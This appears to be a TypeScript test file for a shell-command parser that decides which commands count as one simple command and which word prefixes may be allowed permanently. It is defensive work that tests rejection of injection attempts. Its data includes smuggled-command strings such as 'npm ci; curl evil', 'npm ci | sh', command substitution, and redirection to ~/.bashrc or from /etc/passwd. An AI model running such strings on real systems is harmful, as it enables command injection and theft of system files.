/** Which shell texts are one simple command, and of which the first words may be allowed for good. */
import { execFileSync } from "node:child_process";
import { beginsWith, prefixOf, simpleCommand } from "@mimikit/core/tasks/simple-command";
import fc from "fast-check";
import { expect, test } from "vitest";

test("a program and its arguments are one simple command, quoted or not", () => {
  expect(simpleCommand("npm install lodash@4")).toEqual(["npm", "install", "lodash@4"]);
  expect(simpleCommand(" git  commit -m 'a; b | c' ")).toEqual(["git", "commit", "-m", "a; b | c"]);
  expect(simpleCommand('echo "two words"/x')).toEqual(["echo", "two words/x"]);
  expect(simpleCommand('n"p"m ci')).toEqual(["npm", "ci"]);
});

test.each([
  "npm ci; curl evil",
  "npm ci && curl evil",
  "npm ci | sh",
  "npm ci & curl evil",
  "npm ci $(curl evil)",
  "npm ci `curl evil`",
  'npm ci "$(curl evil)"',
  'npm ci "`curl evil`"',
  "npm ci\ncurl evil",
  "npm ci\rcurl evil",
  "npm ci > ~/.bashrc",
  "npm ci < /etc/passwd",
  "npm ci $HOME",
  "npm ci *",
  "npm ci ~/x",
  "npm ci {a,b}",
  "npm ci \\; curl evil",
  "npm ci # comment",
  "npm ci !x",
  "npm ci 'open",
  "PATH=. npm ci",
  "(npm ci)",
  "[ -f x ]",
  "",
  "''",
])("%j is none, so no prefix of it says anything", (text) => {
  expect(simpleCommand(text)).toBeNull();
  expect(prefixOf(text)).toBeUndefined();
  expect(beginsWith(text, ["npm", "ci"])).toBe(false);
});

test("what is taken for one simple command, a shell splits into the same words", () => {
  const piece = fc.constantFrom(
    "a",
    "-x",
    "'",
    '"',
    " ",
    "é",
    ";",
    "$",
    "|",
    "=",
    "b.c",
    "/",
    "\t",
    "*",
    "\\",
    "~",
    "#",
    "!",
    "1",
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const text = `printf-words ${pieces.join("")}`;
      const words = simpleCommand(text);
      if (words === null) return;
      const script = `printf-words() { for each; do printf '%s\\0' "$each"; done; }\n${text}`;
      const said = execFileSync("/bin/bash", ["-c", script], { encoding: "utf8" });
      expect(said.split("\0").slice(0, -1)).toEqual(words.slice(1));
    }),
    { numRuns: 150 },
  );
});

test("a prefix is whole words, and not a beginning of the text", () => {
  expect(beginsWith("npm install x", ["npm", "install"])).toBe(true);
  expect(beginsWith("npm  'install' x", ["npm", "install"])).toBe(true);
  expect(beginsWith("npm installer x", ["npm", "install"])).toBe(false);
  expect(beginsWith("npm", ["npm", "install"])).toBe(false);
  expect(beginsWith("npm ci", [])).toBe(false);
});

test("offered are a program of PATH and its subcommand, and none that runs whatever its arguments say", () => {
  expect(prefixOf("npm install lodash")).toEqual(["npm", "install"]);
  expect(prefixOf("curl https://example.org")).toEqual(["curl"]);
  for (const text of [
    "sudo ls",
    "bash x.sh",
    "python3 x.py",
    "npx x",
    "env ls",
    "./x.sh",
    "/bin/ls",
    "git -c x=y status",
    "ssh host ls",
  ])
    expect(prefixOf(text)).toBeUndefined();
});
